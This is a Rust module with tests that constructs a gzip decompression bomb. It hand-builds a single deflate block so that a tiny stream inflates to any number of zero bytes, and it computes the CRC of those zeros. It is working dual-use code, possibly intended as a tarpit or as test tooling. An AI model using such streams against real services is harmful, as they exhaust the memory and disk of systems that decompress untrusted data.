//! A gzip stream of zeros, a thousandth of its content, built bit by bit instead of compressed, so
//! that any size takes no time and no memory.
//!
//! The stream is one deflate block (RFC 1951) whose codes are chosen so that "repeat the last byte
//! 258 times" takes two bits, both 0: nearly all of the stream is zeros as well.

/// The longest match of deflate, in bytes.
const MAX_MATCH: u64 = 258;

/// A stream in three parts: `start`, `zeros` zero bytes, `end`.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct GzipBomb {
    pub(crate) start: Vec<u8>,
    pub(crate) zeros: u64,
    pub(crate) end: Vec<u8>,
}

impl GzipBomb {
    /// A stream that inflates to that many zeros.
    pub(crate) fn new(bytes: u64) -> Self {
        let (single, runs) = match bytes.checked_sub(1) {
            None => (0, 0),
            Some(rest) => (1 + rest % MAX_MATCH, rest / MAX_MATCH),
        };
        let mut start = Bits::default();
        block_header(&mut start);
        for _ in 0..single {
            start.code("10");
        }
        // Each run is two zero bits: up to the next whole byte here, whole bytes, and the rest.
        let zero_bits = runs * 2;
        let here = zero_bits.min(start.unused_bits());
        start.number(0, here);
        let mut end = Bits::default();
        end.number(0, (zero_bits - here) % 8);
        if zero_bits == here {
            // There are no whole bytes, so that the end continues in the last byte of the start.
            end = std::mem::take(&mut start);
        }
        end.code("11");
        let mut head = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
        head.extend(start.bytes);
        let mut tail = end.bytes;
        tail.extend(crc_of_zeros(bytes).to_le_bytes());
        // The format has the size modulo 2^32.
        tail.extend(bytes.to_le_bytes().into_iter().take(4));
        Self {
            start: head,
            zeros: (zero_bits - here) / 8,
            end: tail,
        }
    }

    /// The size of the whole stream.
    pub(crate) fn len(&self) -> u64 {
        let ends = self.start.len() + self.end.len();
        self.zeros
            .saturating_add(u64::try_from(ends).unwrap_or(u64::MAX))
    }
}

/// Bits in the order of deflate: the lowest bit of a byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u32,
}

impl Bits {
    fn bit(&mut self, bit: bool) {
        if self.used.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << (self.used % 8);
        }
        self.used += 1;
    }

    /// How many bits of the last byte are unused.
    fn unused_bits(&self) -> u64 {
        u64::from((8 - self.used % 8) % 8)
    }

    /// Appends a number, lowest bit first.
    fn number(&mut self, number: u32, bits: u64) {
        for position in 0..bits {
            self.bit(
                number
                    .checked_shr(u32::try_from(position).unwrap_or(32))
                    .unwrap_or(0)
                    & 1
                    == 1,
            );
        }
    }

    /// Appends a code, given as text.
    fn code(&mut self, code: &str) {
        for digit in code.bytes() {
            self.bit(digit == b'1');
        }
    }
}

/// The header of the last block, with dynamic codes: 0 for "258 times", 10 for a zero, 11 for the end, and
/// 0 for "of the last byte".
fn block_header(bits: &mut Bits) {
    // The order of the lengths in the code length alphabet (RFC 1951, 3.2.7), up to the last one
    // used: 18 has one bit, 1 and 2 have two each.
    const ORDER: [u32; 18] = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1];
    const ZEROS: &str = "0";
    const ONE: &str = "10";
    const TWO: &str = "11";
    bits.number(1, 1);
    bits.number(2, 2);
    bits.number(286 - 257, 5);
    bits.number(0, 5); // one code for distances
    bits.number(18 - 4, 4);
    for symbol in ORDER {
        bits.number(
            match symbol {
                18 => 1,
                1 | 2 => 2,
                _ => 0,
            },
            3,
        );
    }
    let unused = |bits: &mut Bits, symbols: u32| {
        bits.code(ZEROS);
        bits.number(symbols - 11, 7);
    };
    // The literal 0; 1 to 255; the end of the block, 256; 257 to 284; the length 258, 285.
    bits.code(TWO);
    unused(bits, 138);
    unused(bits, 117);
    bits.code(TWO);
    unused(bits, 28);
    bits.code(ONE);
    // The only distance.
    bits.code(ONE);
}

/// The CRC-32 of that many zeros. Each zero multiplies the register by x⁸, so all of them by one
/// power of x, which takes a step for each bit of the number.
fn crc_of_zeros(bytes: u64) -> u32 {
    // Polynomials over GF(2) modulo the CRC's, the highest bit standing for 1.
    fn product(a: u32, mut b: u32) -> u32 {
        let mut product = 0;
        for position in (0..32).rev() {
            if a >> position & 1 == 1 {
                product ^= b;
            }
            b = b >> 1 ^ if b & 1 == 1 { 0xedb8_8320 } else { 0 };
        }
        product
    }
    let mut register = u32::MAX;
    let mut power = 1 << 23; // x⁸
    let mut rest = bytes;
    while rest > 0 {
        if rest & 1 == 1 {
            register = product(register, power);
        }
        power = product(power, power);
        rest >>= 1;
    }
    !register
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    /// The complete stream.
    fn complete(bomb: &GzipBomb) -> Vec<u8> {
        let zeros = vec![0; usize::try_from(bomb.zeros).unwrap()];
        [&bomb.start[..], &zeros, &bomb.end].concat()
    }

    #[test]
    fn stream_inflates_to_the_requested_size() {
        let sizes = (0..2100).chain([65_537, 1_000_000, 10_000_000]);
        for size in sizes {
            let bomb = GzipBomb::new(size);
            let stream = complete(&bomb);
            assert_eq!(stream.len() as u64, bomb.len());
            let mut inflated = Vec::new();
            // The decoder checks the sum and the size at the end.
            flate2::read::GzDecoder::new(&stream[..])
                .read_to_end(&mut inflated)
                .unwrap_or_else(|error| panic!("{size}: {error}"));
            assert_eq!(inflated.len() as u64, size);
            assert!(inflated.iter().all(|byte| *byte == 0), "{size}");
        }
    }

    #[test]
    fn stream_is_small_and_takes_no_memory() {
        let bomb = GzipBomb::new(1 << 40);
        assert!(bomb.len() < (1 << 40) / 1000);
        assert!(bomb.start.len() + bomb.end.len() < 300);
        GzipBomb::new(u64::MAX);
    }
}
